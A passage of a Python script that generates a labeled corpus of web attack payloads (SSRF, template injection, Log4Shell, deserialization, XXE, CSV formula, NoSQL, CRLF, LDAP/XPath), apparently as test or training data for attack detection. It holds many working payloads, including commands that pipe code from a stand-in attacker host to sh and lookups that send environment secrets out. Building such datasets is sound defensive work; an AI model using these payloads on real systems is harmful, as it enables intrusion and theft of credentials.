    ("datasheeturl-imds+ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("datasheeturl-imds+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("datasheeturl-imds+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("datasheeturl-imds+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("partimage-loopback+short-ip", "http://127.1/server-status"),
    ("webhook-zero-ip-actuator", "http://0.0.0.0:8080/actuator/env"),
    ("partimage-loopback+hex-octet", "http://0x7f.0.0.1:5000/debug/console"),
    ("datasheeturl-userinfo-confusion", "https://datasheets.vendor.example@169.254.169.254/latest/meta-data/"),
    ("datasheeturl-fragment-confusion", "http://127.0.0.1:8080#@datasheets.vendor.example/lm358.pdf"),
    ("datasheeturl-backslash-confusion", "http://127.0.0.1:8500\\@datasheets.vendor.example/v1/agent/self"),
    ("datasheeturl-open-redirect", "https://attacker.example/r.php?to=http://169.254.169.254/latest/meta-data/"),
    ("webhook-dns-rebinding", "http://rebind-7f000001.attacker.example:8080/admin"),
    ("datasheeturl-file-scheme", "file:///etc/passwd"),
    ("datasheeturl-file-localhost", "file://localhost/etc/shadow"),
    ("model3d-jar-scheme", "jar:http://attacker.example/x.zip!/usb-c.step"),
    ("datasheeturl-ftp-internal", "ftp://10.0.0.12/backups/db.sql"),
    ("libimport-ldap-internal", "ldap://127.0.0.1:389/dc=shop,dc=internal"),
    ("datasheeturl-netdoc-scheme", "netdoc:///etc/passwd"),
    ("datasheetpath-unc-ntlm+unc", "\\\\203.0.113.7\\datasheets\\lm358.pdf"),
    ("datasheeturl-imds+enclosed-digits", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
    ("datasheeturl-imds+urlenc-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
    ("webhook-consul-kv", "http://10.0.0.5:8500/v1/kv/?recurse"),
    ("webhook-router-admin", "http://192.168.0.1/cgi-bin/luci"),
    ("bom-datasheet-column-imds", "U6,ESP32-WROOM-32E,1,http://169.254.169.254/latest/meta-data/iam/info"),
    ("datasheeturl-internal-api", "http://localhost:5000/api/v1/users?limit=1000"),
    ("model3d-minio+ipv6-mapped", "http://[0:0:0:0:0:ffff:7f00:1]:9000/minio/admin/v3/info"),
    ("datasheeturl-gcp-ssh-keys", "http://169.254.169.254/computeMetadata/v1/project/attributes/ssh-keys?alt=text"),
    ("partimage-aws-instance-data", "http://instance-data/latest/meta-data/hostname"),
    ("webhook-localhost+enclosed-letters", "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:8080/admin"),
    ("webhook-smtp-crlf-smuggle", "http://127.0.0.1:25/%0D%0AHELO%20shop%0D%0AMAIL%20FROM:%3Cadmin@shop.example%3E%0D%0A"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-localhost-ssh", "http://localhost:22/"),
    ("plain-imds-root", "http://169.254.169.254/"),
    ("plain-ipv6-any", "http://[::]:80/"),
    ("plain-file-environ", "file:///proc/self/environ"),
]

SSRF_HOSTS = [("loopback", "127.0.0.1"), ("localhost", "localhost"), ("imds", "169.254.169.254"),
              ("private", "10.0.0.8"), ("private", "192.168.1.10"), ("private", "172.16.5.4")]
SSRF_PORTS = ["", ":8080", ":9000", ":6379", ":8500", ":3000"]
SSRF_PATHS = ["/admin", "/internal/metrics", "/latest/meta-data/", "/v1/secrets", "/debug/vars",
              "/api/orders?all=1"]
SSRF_CTX = ["datasheeturl", "partimage", "webhook"]


def tpl_ssrf(rng):
    kind, host = rng.choice(SSRF_HOSTS)
    v = f"http://{host}{rng.choice(SSRF_PORTS)}{rng.choice(SSRF_PATHS)}"
    return f"{rng.choice(SSRF_CTX)}-{kind}", v


# --------------------------------------------------------------------------
# code (SSTI, EL, Log4Shell, prototype pollution, CSV formula, deser, XXE, eval)
# --------------------------------------------------------------------------
PICKLE = b"cos\nsystem\n(S'curl http://attacker.example/pk|sh'\ntR."

CODE = [
    ("labeltpl-jinja-cycler-globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("labeltpl-jinja-lipsum-globals", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("labeltpl-jinja-config-leak", "{{ config.items() }}"),
    ("labeltpl-jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("labeltpl-jinja-attr-filter+hex-escape", r"{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("labeltpl-jinja-popen-loop", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("bom-jinja-builtins-import", "R1 10k {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("bomreport-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("bomreport-twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("bomreport-twig-undefined-filter", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("quotemail-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("quotemail-freemarker-inline-execute", "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}"),
    ("quotemail-velocity-runtime", "#set($rt=$x.class.forName(\"java.lang.Runtime\"))#set($p=$rt.getRuntime().exec(\"id\"))$p.waitFor()"),
    ("labeltpl-erb-backtick", "<%= `id` %>"),
    ("labeltpl-erb-io-popen", "Label: <%= IO.popen('cat /etc/passwd').read %>"),
    ("labeltpl-smarty-system", "{system('id')}"),
    ("labeltpl-smarty-if-system", "{if system('cat /etc/passwd')}{/if}"),
    ("labeltpl-mako-import-os", "<% import os %>${os.popen('id').read()}"),
    ("labeltpl-mako-expr-import", "${__import__('subprocess').check_output(['id'])}"),
    ("labeltpl-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("labeltpl-django-debug-leak", "{% debug %}"),
    ("labeltpl-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("labeltpl-ejs-execsync", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("labeltpl-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("quotemail-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("partview-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/x\")}__::.x"),
    ("partview-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("partview-jsp-el-reflection", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"),
    ("ordernote-log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("mpn-log4shell-rmi", "LM358 ${jndi:rmi://203.0.113.20:1099/obj}"),
    ("forum-log4shell+lower-lookup", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("forum-log4shell+default-value", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/y}"),
    ("useragent-log4shell-dns-env-exfil", "${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("ordernote-log4shell+env-default", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/z}"),
    ("search-log4shell-sys-exfil", "${jndi:ldap://${sys:java.version}.attacker.example/a}"),
    ("search-log4shell+urlenc", url("${jndi:ldap://attacker.example/u}")),
    ("bomjson-proto-pollution", "{\"mpn\":\"LM358\",\"qty\":5,\"__proto__\":{\"isAdmin\":true}}"),
    ("settingsjson-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("partfilter-proto-querystring", "filters[__proto__][admin]=1"),
    ("settingsjson-proto-ejs-gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("settingsjson-proto-node-options", "{\"__proto__\":{\"env\":{\"NODE_OPTIONS\":\"--inspect=203.0.113.4:9229\"}}}"),
    ("bomexport-csv-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&C2&D2,\"Datasheet\")"),
    ("bomexport-csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("bomexport-csv-at-sum-dde", "@SUM(1+9)*cmd|' /C powershell iwr attacker.example/p -o p.exe'!A0"),
    ("bomexport-csv-minus-dde", "-2+3+cmd|' /C mshta http://attacker.example/a.hta'!A0"),
    ("bomexport-csv-webservice", "=WEBSERVICE(\"https://attacker.example/x?\"&A1&B1)"),
    ("bomexport-csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A2),\"//a\")"),
    ("bomexport-csv-image-beacon", "=IMAGE(\"https://attacker.example/t.png?\"&A3)"),
    ("projectyaml-python-apply-system", "!!python/object/apply:os.system [\"curl http://attacker.example/y | sh\"]"),
    ("projectyaml-python-subprocess", "!!python/object/apply:subprocess.check_output [[\"id\"]]"),
    ("projectyaml-snakeyaml-urlclassloader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("prefscookie-pickle+base64", b64(PICKLE)),
    ("gerberpreview-php-object", "O:13:\"GerberPreview\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}"),
    ("gerberupload-phar-wrapper", "phar:///var/www/uploads/board.gbr/x"),
    ("bomjson-jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}]"),
    ("bomjson-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.20:1099/x\",\"autoCommit\":true}"),
    ("settingsjson-node-serialize-iife", "{\"note\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("bomjson-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("bomxml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE bom [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>\n<bom><part mpn=\"LM358\">&f;</part></bom>"),
    ("eaglesch-xxe-credentials", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!DOCTYPE eagle [<!ENTITY x SYSTEM \"file:///home/app/.aws/credentials\">]>\n<eagle version=\"9.6.2\"><drawing><schematic><description>&x;</description></schematic></drawing></eagle>"),
    ("bomxml-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]>\n<r>&exfil;</r>"),
    ("bomxml-xinclude", "<part xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/hosts\" parse=\"text\"/></part>"),
    ("svgupload-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&k;</text></svg>"),
    ("bomxml-entity-expansion", "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]><l>&e;</l>"),
    ("calc-python-eval-import", "__import__('os').popen('id').read()"),
    ("calc-python-eval-hidden-in-formula", "(1+390/120)*1.25 + len(__import__('subprocess').getoutput('cat /etc/passwd'))"),
    ("calc-python-eval-subclass-walk", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
    ("calc-js-eval-child-process", "Vref*(1+R1/R2)+require('child_process').execSync('id').length"),
    ("plain-jinja-config-globals", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("plain-log4shell-ldap", "${jndi:ldap://attacker.example/p}"),
    ("plain-erb-system", "<%= system(\"id\") %>"),
    ("plain-proto-pollution", "{\"__proto__\":{\"polluted\":true}}"),
    ("plain-csv-dde", "=cmd|'/C calc'!A0"),
    ("plain-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-twig-filter-exec", "{{['id']|filter('exec')}}"),
]

CODE_L4J_PROTOS = ["ldap", "ldaps", "rmi", "dns", "iiop"]
CODE_L4J_HOSTS = ["attacker.example", "l4.attacker.example", "203.0.113.31", "198.51.100.77:1389"]
CODE_L4J_FIELDS = ["Order note: ", "MPN ", "Ref: ", ""]
CODE_JINJA_CMDS = ["id", "uname -a", "cat /etc/hostname", "env", "ls /srv/app"]


def tpl_code(rng):
    if rng.random() < 0.5:
        p = rng.choice(CODE_L4J_PROTOS)
        v = f"{rng.choice(CODE_L4J_FIELDS)}${{jndi:{p}://{rng.choice(CODE_L4J_HOSTS)}/{rng.choice(['a', 'x', 'o', 'e'])}{rng.randint(1, 99)}}}"
        return f"ordernote-log4shell-{p}", v
    cmd = rng.choice(CODE_JINJA_CMDS)
    g = rng.choice(["cycler", "joiner", "namespace"])
    return f"labeltpl-jinja-{g}-globals", f"{{{{ {g}.__init__.__globals__.os.popen('{cmd}').read() }}}}"


# --------------------------------------------------------------------------
# nosqli
# --------------------------------------------------------------------------
NOSQLI = [
    ("login-mongo-ne", "{\"username\":\"admin\",\"password\":{\"$ne\":null}}"),
    ("login-mongo-gt-both", "{\"email\":{\"$gt\":\"\"},\"password\":{\"$gt\":\"\"}}"),
    ("login-mongo-qs-ne", "username=admin&password[$ne]=x"),
    ("resettoken-mongo-qs-ne", "email=victim@shop.example&reset_token[$ne]=0"),
    ("login-mongo-regex-prefix", "{\"username\":\"admin\",\"password\":{\"$regex\":\"^a\"}}"),
    ("partfilter-mongo-where-sleep", "{\"$where\":\"sleep(5000) || true\"}"),
    ("partsearch-where-js-breakout", "LM358'; return true; var x='"),
    ("partsearch-where-js-busyloop", "x' || (function(){var d=new Date();while(new Date()-d<5000){};return true})() || '"),
    ("login-mongo-or-exists", "{\"$or\":[{\"role\":\"admin\"},{\"_id\":{\"$exists\":true}}]}"),
    ("login-mongo-in-names", "{\"username\":{\"$in\":[\"admin\",\"root\",\"administrator\"]},\"password\":{\"$ne\":\"\"}}"),
    ("orderfilter-mongo-expr-true", "{\"$expr\":{\"$eq\":[1,1]}}"),
    ("orderfilter-mongo-function-sleep", "{\"$expr\":{\"$function\":{\"body\":\"function(){sleep(5000);return true}\",\"args\":[],\"lang\":\"js\"}}}"),
    ("reportpipeline-mongo-lookup-users", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"owner\",\"foreignField\":\"_id\",\"as\":\"u\"}}]"),
    ("orders-mongo-qs-ne-owner", "owner[$ne]=nobody&status=paid"),
    ("login-mongo-ne+unicode-escape", "{\"password\":{\"\\u0024ne\":null},\"username\":\"admin\"}"),
    ("login-mongo-qs-ne+urlenc", "username=admin&password%5B%24ne%5D=1"),
    ("partfilter-mongo-qs-where", "filter[$where]=sleep(4000)"),
    ("catalog-couch-mango-selector", "{\"selector\":{\"_id\":{\"$gt\":null}},\"fields\":[\"_id\",\"price\",\"cost\"]}"),
    ("login-mongo-where-regex-exfil", "{\"$where\":\"this.password.match(/^a/)\"}"),
    ("partsearch-where-js-tautology", "STM32' || '1'=='1"),
    ("plain-mongo-ne", "{\"$ne\": null}"),
    ("plain-mongo-qs-gt", "password[$gt]="),
    ("plain-mongo-where-true", "{\"$where\":\"1\"}"),
]

NOSQL_FIELDS = ["password", "api_key", "reset_token", "pin", "otp"]
NOSQL_OPS = [("ne", "{{\"$ne\":{v}}}"), ("gt", "{{\"$gt\":{v}}}"), ("regex", "{{\"$regex\":{v}}}")]


def tpl_nosqli(rng):
    f = rng.choice(NOSQL_FIELDS)
    name, op = rng.choice(NOSQL_OPS)
    val = {"ne": rng.choice(["null", "\"\"", "0"]), "gt": "\"\"", "regex": rng.choice(["\".*\"", "\"^\""])}[name]
    user = rng.choice(["admin", "root", "ops@shop.example", "support"])
    return f"login-mongo-{name}", f"{{\"username\":\"{user}\",\"{f}\":{op.format(v=val)}}}"


# --------------------------------------------------------------------------
# crlf
# --------------------------------------------------------------------------
CRLF = [
    ("download-filename-set-cookie", "lm358.pdf\r\nSet-Cookie: session=attacker; Path=/"),
    ("redirect-location+urlenc", "/parts%0D%0ALocation:%20https://attacker.example/phish"),
    ("redirect-response-splitting+urlenc", "x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(document.domain)%3C/script%3E"),
    ("langheader-lf-host", "en\nX-Forwarded-Host: attacker.example"),
    ("searchlog-forged-login", "LM358\n2024-05-01T12:00:00Z INFO auth: user=admin action=login result=success ip=10.0.0.1"),
    ("ordernotelog-forged-refund", "ESP32 order note\r\n[2024-05-02 09:14:11] WARN payment: refund approved order=48213 amount=999.00"),
    ("searchlog-ansi-escape", "STM32\x1b[2J\x1b[1;1HAll systems nominal\x1b[8m"),
    ("quoteform-mail-bcc", "quote@shop.example\r\nBcc: everyone@attacker.example"),
    ("quoteform-mail-subject-body", "Quote request\r\nCc: sales-list@attacker.example\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/pay\">Pay here</a>"),
    ("quoteform-mail-name-replyto", "Anna Keller\nReply-To: billing@attacker.example"),
    ("quoteform-smtp-rcpt", "buyer@shop.example>\r\nRCPT TO:<victim@attacker.example>"),
    ("searchlog-forged+urlenc", "0603%0d%0a[INFO] admin password reset for user=root"),
    ("download-header+utf8-truncation", "datasheet.pdf嘊嘍Set-Cookie: admin=1"),
    ("download-header+utf8-truncation-urlenc", "datasheet.pdf%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("redirect-set-cookie+double-urlenc", "%250d%250aSet-Cookie:%20x=1"),
    ("download-filename-cr-only", "report.pdf\rX-Injected: 1"),
    ("webhookheader-json-value-crlf", "{\"header\":\"X-Trace\",\"value\":\"a\\r\\nAuthorization: Bearer FAKE-TOKEN-0000\"}"),
    ("ordermail-smtp-smuggling", "thanks!\r\n.\r\nMAIL FROM:<admin@shop.example>\r\nRCPT TO:<victim@attacker.example>\r\nDATA\r\nSubject: invoice\r\n\r\npay now\r\n.\r\n"),
    ("returnurl-refresh-header", "https://shop.example/\r\nRefresh: 0; url=https://attacker.example/"),
    ("bomlog-forged-sshd", "R1 10k\nMay  3 10:22:01 shop sshd[991]: Accepted password for root from 198.51.100.4 port 52211 ssh2"),
    ("download-filename-body-injection", "board.zip\"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("langcookie-session-fixation", "fr\nSet-Cookie: csrftoken=fixed0000; Path=/"),
    ("notifyemail-mail-to", "maker@mail.example\nTo: list@attacker.example"),
    ("forumlog-forged-audit", "thanks for the help!\n[audit] 2024-06-01 role change: user=maker42 old=member new=admin by=system"),
    ("download-filename-location+urlenc", "lm317.pdf%0d%0aLocation:%20//attacker.example/"),
    ("plain-set-cookie", "\r\nSet-Cookie: admin=1"),
    ("plain-header+urlenc", "%0d%0aX-Injected:%20yes"),
    ("plain-log-forge", "\nINFO login ok user=admin"),
    ("plain-location+urlenc", "%0aLocation:%20https://attacker.example/"),
]

CRLF_FILES = ["lm358.pdf", "board-gerbers.zip", "bom.csv", "ibom.html", "firmware.bin"]
CRLF_HEADERS = ["Set-Cookie: sid=fixed{n}; Path=/", "Location: https://attacker.example/{n}",
                "X-Accel-Redirect: /internal/{n}", "Content-Type: text/html"]
CRLF_NL = [("", "\r\n"), ("+urlenc", "%0d%0a"), ("-lf", "\n")]


def tpl_crlf(rng):
    enc, nl = rng.choice(CRLF_NL)
    h = rng.choice(CRLF_HEADERS).format(n=rng.randint(100, 999))
    if enc == "+urlenc":
        h = h.replace(" ", "%20")
    return f"download-filename-header{enc}", rng.choice(CRLF_FILES) + nl + h


# --------------------------------------------------------------------------
# ldap-xpath
# --------------------------------------------------------------------------
LDAPX = [
    ("directory-ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("login-ldap-and-true", "admin)(&)"),
    ("login-ldap-password-wildcard", "*)(userPassword=*)"),
    ("login-ldap-blind-password-prefix", "admin)(userPassword=a*"),
    ("directory-ldap-group-membership", "*)(memberOf=cn=admins,ou=groups,dc=shop,dc=example"),
    ("directory-ldap-objectclass-or", "x*)(|(objectClass=*)"),
    ("directory-ldap-wildcard-or+urlenc", url("*)(uid=*))(|(uid=*")),
    ("login-ldap-nullbyte-truncate+nullbyte", "admin))%00"),
    ("directory-ldap-description-leak", "maker*)(description=*password*"),
    ("catalog-xpath-tautology", "' or '1'='1"),
    ("catalog-xpath-union-users", "LM358'] | //user/* | //part['"),
    ("catalog-xpath-count-probe", "' or count(//user)>0 or 'a'='b"),
    ("login-xpath-blind-substring", "' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("login-xpath-blind-name-length", "' or string-length(name(/*[1]))=7 or '1'='2"),
    ("catalog-xpath-numeric-tautology", "1 or 1=1"),
    ("catalog-xpath-paren-union-all", "')] | //* | //*[('"),
    ("catalog-xpath2-doc-oob", "' or doc('http://attacker.example/x')/a or '"),
    ("login-xpath-name-user", "' or name()='user' or '"),
    ("catalog-xpath-tautology+urlenc", url("STM32' or 1=1 or 'a'='a")),
    ("plain-ldap-and", "*)(&"),
    ("plain-xpath-tautology", "' or 1=1 or ''='"),
    ("plain-ldap-or-wildcard", "*)(|(cn=*"),
]

LDAP_ATTRS = ["uid", "cn", "mail", "sAMAccountName"]


def tpl_ldapx(rng):
    a = rng.choice(LDAP_ATTRS)
    who = rng.choice(["admin", "maker", "ops", "*"])
    if rng.random() < 0.5:
        return "directory-ldap-or-inject", f"{who})(|({a}=*)"
    return "login-ldap-attr-wildcard", f"{who})({a}=*))(|({a}=*"


CATEGORIES = [
    ("sqli", SQLI, tpl_sqli, 8),
    ("xss", XSS, tpl_xss, 8),
    ("cmdi", CMDI, tpl_cmdi, 8),
    ("traversal", TRAVERSAL, tpl_traversal, 7),
    ("ssrf", SSRF, tpl_ssrf, 5),
    ("code", CODE, tpl_code, 5),
    ("nosqli", NOSQLI, tpl_nosqli, 4),
    ("crlf", CRLF, tpl_crlf, 4),
    ("ldap-xpath", LDAPX, tpl_ldapx, 3),
]


def build(rng):
    rows = []
    seen = {}
    stats = []
    for cat, literals, tpl, n_tpl in CATEGORIES:
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen[v] = cat
            rows.append((cat, cls, v))
        added = 0
        guard = 0
        while added < n_tpl:
            guard += 1
            if guard > 10000:
                raise SystemExit(f"template for {cat} cannot fill")
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen[v] = cat
            rows.append((cat, cls, v))
            added += 1
        stats.append((cat, len(literals) + n_tpl, len(literals)))
    return rows, stats


def main():
    rng = random.Random(SEED)
    rows, stats = build(rng)
    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, val) in enumerate(rows, 1):
            assert isinstance(val, str) and val and len(val) <= 1800, (cat, val)
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls,
                   "label": "attack", "value": val}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, n_lit in stats:
        total_lit += n_lit
        print(f"{cat:12s} {n:4d}  literals {n_lit:3d} ({100 * n_lit / n:.0f}%)")
    n_plain = sum(1 for r in rows if r[1].startswith("plain-"))
    n_enc = sum(1 for r in rows if "+" in r[1])
    print(f"{'total':12s} {len(rows):4d}  literals {total_lit:3d} ({100 * total_lit / len(rows):.0f}%)"
          f"  plain {n_plain}  encoded {n_enc}")
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
